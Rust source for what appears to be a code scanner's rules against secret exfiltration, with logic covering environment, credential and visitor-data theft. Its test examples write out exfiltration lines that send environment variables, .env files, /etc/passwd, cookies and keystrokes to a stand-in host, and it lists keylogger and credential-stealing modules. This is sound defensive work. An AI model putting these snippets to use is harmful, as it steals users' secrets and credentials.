//! Secrets on their way out.

use super::{Rule, asked};
use crate::guard::{
    fact::{Call, method},
    found::Found,
    hosts,
    value::{HOLE, Marks, Shape, Value},
    verdict::Severity,
};

pub static ENVIRONMENT: Rule = Rule {
    id: "harvest-environment",
    severity: Severity::Block,
    why: "the environment holds keys that are not for others",
    remedy: "send only the values that the other side needs, by name",
    finds: &[
        ("x.js", "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) })"),
        ("x.js", "app.get('/debug', (req, res) => res.json(process.env))"),
        ("x.js", "const all = { ...process.env }; axios.post(u, all)"),
        ("x.js", "const tell = (o) => fetch('https://c.example.net', { method: 'POST', body: o }); tell(process.env);"),
        ("x.py", "import os, requests\nrequests.post('https://c.example.net', json=dict(os.environ))"),
        ("x.py", "import os\nfor k, v in os.environ.items():\n    sock.send((k + v).encode())"),
    ],
    spares: &[
        ("x.js", "const port = process.env.PORT || 3000; fetch(`https://api.example.com?key=${process.env.API_KEY}`)"),
        ("x.js", "const env = schema.parse(process.env); axios.get(env.API_URL)"),
        (
            "x.py",
            "import os, requests\nrequests.get(os.environ['URL'], headers={'x': os.environ.get('KEY')})\nenv = dict(os.environ, A='1')",
        ),
    ],
};
pub static CREDENTIALS: Rule = Rule {
    id: "harvest-credentials",
    severity: Severity::Block,
    why: "credentials of the machine or of its owner are sent away",
    remedy: "use the service's own library, which keeps its key to itself",
    finds: &[
        (
            "x.js",
            "const fs = require('fs'); fetch('https://c.example.net', { method: 'POST', body: fs.readFileSync('.env') })",
        ),
        ("x.js", "fetch('https://c.example.net/?k=' + process.env.AWS_SECRET_ACCESS_KEY)"),
        ("x.py", "import os, requests\nrequests.post('https://c.example.net', data={'k': os.getenv('NPM_TOKEN')})"),
        ("x.sh", "curl -F f=@/etc/passwd https://c.example.net"),
        ("x.sh", "env | curl -d @- https://c.example.net"),
    ],
    spares: &[(
        "x.js",
        "const s3 = new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } })",
    )],
};
pub static PAGE: Rule = Rule {
    id: "harvest-visitor",
    severity: Severity::Block,
    why: "what a visitor types or is known by goes to somebody else",
    remedy: "send it to the app's own server only",
    finds: &[
        (
            "x.js",
            "let b = ''; addEventListener('keydown', ({ key }) => { b += key; navigator.sendBeacon('https://c.example.net', b); });",
        ),
        (
            "x.js",
            "navigator.mediaDevices.getUserMedia({ video: true }).then(show); fetch('https://c.example.net', { method: 'POST', body: shot })",
        ),
        (
            "x.js",
            "addEventListener('paste', (e) => fetch('https://c.example.net', { method: 'POST', body: e.clipboardData.getData('text') }));",
        ),
        ("x.js", "new Image().src = 'https://c.example.net/?c=' + document.cookie"),
        ("x.js", "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(localStorage) })"),
        (
            "x.js",
            "let keys = ''; document.onkeypress = (e) => { keys += e.key; navigator.sendBeacon('https://c.example.net', keys); }",
        ),
        ("x.js", "location.href = 'http://c.example.net/' + document.cookie"),
        (
            "x.js",
            "const p = document.getElementById('password').value; fetch('https://c.example.net', { method: 'POST', body: p })",
        ),
        ("x.py", "from pynput import keyboard"),
    ],
    spares: &[
        (
            "x.js",
            "const theme = localStorage.getItem('theme'); fetch('/api/login', { method: 'POST', body: document.getElementById('password').value })",
        ),
        ("x.js", "addEventListener('keydown', (e) => { keys[e.key] = true; }); document.cookie = 'a=1';"),
    ],
};

pub(super) const RULES: &[&Rule] = &[&ENVIRONMENT, &CREDENTIALS, &PAGE];

pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
    let first = module.split('.').next().unwrap_or(module);
    match first {
        "pynput"
        | "keyboard"
        | "pyHook"
        | "pyxhook"
        | "iohook"
        | "node-global-key-listener"
        | "uiohook-napi"
        | "node-key-sender"
        | "keylogger" => {
            found.add(&PAGE, line, &format!("`{module}` hears every key"));
        }
        "browser_cookie3" | "browsercookie" | "pypykatz" | "keytar" | "win32crypt" | "lazagne" => {
            found.add(&CREDENTIALS, line, &format!("`{module}` reads what others have stored"));
        }
        "pyautogui" | "mss" | "screenshot-desktop" | "pyscreenshot" => {
            found.hint(&PAGE, line, &format!("`{module}` sees the screen"));
        }
        _ => {}
    }
}

/// Functions that send their arguments elsewhere.
pub(super) fn sends(path: &str) -> bool {
    let method = method(path);
    let start = path.split(['.', '(']).next().unwrap_or_default();
    matches!(
        start,
        "fetch"
            | "axios"
            | "got"
            | "superagent"
            | "needle"
            | "requests"
            | "httpx"
            | "urllib3"
            | "smtplib"
            | "ftplib"
            | "nodemailer"
            | "undici"
            | "node-fetch"
            | "aiohttp"
            | "dns"
            | "WebSocket"
            | "ws"
            | "http"
            | "https"
            | "net"
            | "socket"
            | "phin"
            | "bent"
            | "XMLHttpRequest"
    ) && !method.starts_with("createServer")
        || matches!(
            path,
            "location.assign"
                | "location.replace"
                | "window.open"
                | "document.location.assign"
                | "document.location.replace"
                | "navigator.sendBeacon"
                | "urllib.request.urlopen"
                | "urllib.request.Request"
                | "$.post"
                | "$.ajax"
                | "$.get"
                | "jQuery.post"
                | "jQuery.ajax"
                | "socket.gethostbyname"
                | "EventSource"
        )
        || matches!(
            method,
            "sendBeacon"
                | "post"
                | "put"
                | "send"
                | "sendall"
                | "sendto"
                | "sendmail"
                | "send_message"
                | "emit"
                | "publish"
                | "urlopen"
                | "storbinary"
                | "patch"
                | "sendMail"
                | "getaddrinfo"
        )
        || path.ends_with(".request().write")
        || path.ends_with(".request().end")
}

fn shows(path: &str) -> bool {
    let method = method(path);
    matches!(
        path,
        "flask.jsonify"
            | "jsonify"
            | "flask.render_template"
            | "JSONResponse"
            | "fastapi.responses.JSONResponse"
            | "self.wfile.write"
            | "~self.wfile.write"
            | "django.http.JsonResponse"
    ) || (path.starts_with("~res.")
        || path.starts_with("~response.")
        || path.starts_with("~reply.")
        || path.starts_with("~ctx.")
        || path.starts_with("~c."))
        && matches!(method, "json" | "send" | "end" | "write" | "render")
}

/// Where a call sends to.
pub(super) enum Target {
    /// The app's own server.
    Own,
    Host(String),
    Unknown,
}

pub(super) fn target(call: &Call<'_>) -> Target {
    let texts = call.args.iter().filter_map(Value::as_text);
    let options = ["url", "host", "hostname", "baseURL", "uri"]
        .iter()
        .filter_map(|key| call.option(key).and_then(Value::as_text));
    for text in texts.chain(options) {
        if let Some(host) = hosts::of(text) {
            return if hosts::is_local(&host) { Target::Own } else { Target::Host(host) };
        }
        // The path of a request whose host was said when the connection was made.
        let connected = call.path.contains("Connection()");
        if !connected && (text.starts_with('/') || text.starts_with("./")) {
            return Target::Own;
        }
    }
    Target::Unknown
}

pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    let path = call.path;
    if matches!(path, "WebSocket" | "ws" | "ws.WebSocket") {
        let host = call.text(0).and_then(hosts::of).filter(|host| !hosts::is_local(host));
        found.socket_host = host.or(found.socket_host.take());
    }
    let mut marks = call.arg_marks();
    let sends = sends(path);
    // A whole form is what it asks for.
    if marks.has(Marks::FORM) && found.asks_secret {
        marks = marks.with(Marks::PASSWORD);
    }
    if shows(path) && marks.has(Marks::ENVIRONMENT) {
        found.add(&ENVIRONMENT, line, &format!("`{path}` shows the whole environment to whoever asks"));
        return;
    }
    if matches!(path, "console.log" | "print" | "logging.info" | "console.error" | "logger.info")
        && marks.has(Marks::ENVIRONMENT)
    {
        found.hint(&ENVIRONMENT, line, "the whole environment is logged");
    }
    if sends
        && let Target::Host(host) = target(call)
        && !is_key_host(&host)
        && said(call).has(Marks::SECRET)
    {
        found.add(&CREDENTIALS, line, &format!("`{path}` tells {host} a key of the app"));
    }
    if marks.has(Marks::OWNED)
        && sends
        && let Target::Host(host) = target(call)
    {
        asked::sent(&host, line, found);
    }
    if sends && let Target::Host(host) = target(call) {
        asked::passed_on(call, &host, marks, line, found);
    }
    if !marks
        .has(Marks::ENVIRONMENT.with(Marks::CREDENTIAL).with(Marks::COOKIE).with(Marks::KEYS).with(Marks::PASSWORD))
        || !sends
    {
        return;
    }
    let target = match (target(call), &found.socket_host) {
        (Target::Unknown, Some(host)) if path.contains("WebSocket()") || path.starts_with("ws()") => {
            Target::Host(host.clone())
        }
        (target, _) => target,
    };
    if marks.has(Marks::ENVIRONMENT) && !matches!(target, Target::Own) {
        found.add(&ENVIRONMENT, line, &format!("`{path}` sends the whole environment"));
    }
    if marks.has(Marks::CREDENTIAL) && !is_vendor(&target) {
        found.add(&CREDENTIALS, line, &format!("`{path}` sends a credential"));
    }
    if marks.has(Marks::COOKIE.with(Marks::KEYS).with(Marks::PASSWORD)) {
        let what = visitor(marks);
        match target {
            Target::Own => {}
            Target::Host(host) => found.add(&PAGE, line, &format!("{what} to {host}")),
            Target::Unknown if marks.has(Marks::COOKIE) && path.starts_with("XMLHttpRequest") => {
                found.add(&PAGE, line, what)
            }
            Target::Unknown if marks.has(Marks::COOKIE) => found.hint(&PAGE, line, what),
            Target::Unknown => {}
        }
    }
}

/// The pattern by which the tokens of a chat are found in what it stores.
pub(super) fn text(text: &str, line: usize, found: &mut Found<'_>) {
    if !text.contains("\\.[") {
        return;
    }
    if text.contains("]{24}\\.[") || text.contains("mfa\\.[") {
        found.add(&CREDENTIALS, line, "a pattern finds the tokens of others");
    }
}

/// Marks of what a call says, but for what it shows to be let in.
fn said(call: &Call<'_>) -> Marks {
    let let_in = ["headers", "auth", "cert", "apiKey", "api_key"];
    call.args.iter().fold(Marks::NONE, |marks, arg| match &arg.shape {
        Shape::Table(pairs) => pairs
            .iter()
            .filter(|(name, _)| !let_in.contains(&name.as_str()))
            .fold(marks, |marks, (_, value)| marks.with(value.all_marks())),
        Shape::Unknown | Shape::Text(_) | Shape::Number(_) | Shape::List(_) | Shape::Path(_) | Shape::Function(_) => {
            marks.with(arg.all_marks())
        }
    })
}

/// Services that are told their own keys in the address or the body, too.
fn is_key_host(host: &str) -> bool {
    ["openai.com", "anthropic.com", "stripe.com", "github.com", "googleapis.com", "azure.com"]
        .iter()
        .any(|vendor| hosts::is_under(host, vendor))
}

fn visitor(marks: Marks) -> &'static str {
    if marks.has(Marks::COOKIE) {
        "cookies or stored data go"
    } else if marks.has(Marks::KEYS) {
        "pressed keys go"
    } else {
        "a password goes"
    }
}

/// Services that may have the keys that they gave out.
fn is_vendor(target: &Target) -> bool {
    match target {
        Target::Host(host) => {
            ["amazonaws.com", "googleapis.com", "azure.com", "github.com", "windows.net", "gitlab.com"]
                .iter()
                .any(|vendor| hosts::is_under(host, vendor))
        }
        Target::Own | Target::Unknown => false,
    }
}

pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
    let marks = value.all_marks();
    // A picture whose address holds what a field holds, in a page that asks for a password.
    if found.asks_secret
        && path == "Image().src"
        && let Some(host) = value.as_text().filter(|text| text.contains(HOLE)).and_then(hosts::of)
        && !hosts::is_library_host(&host)
    {
        found.add(&PAGE, line, &format!("what the page asks for goes to {host}, as the address of a picture"));
    }
    let leads_out = matches!(path, "location" | "location.href" | "document.location" | "document.location.href")
        || path.ends_with(".src")
        || path.ends_with(".href")
        || path.ends_with(".action");
    if !leads_out || !marks.has(Marks::COOKIE.with(Marks::KEYS).with(Marks::PASSWORD)) {
        return;
    }
    if let Some(host) = value.as_text().and_then(hosts::of)
        && !hosts::is_local(&host)
    {
        found.add(&PAGE, line, &format!("{} to {host}", visitor(marks)));
    }
}
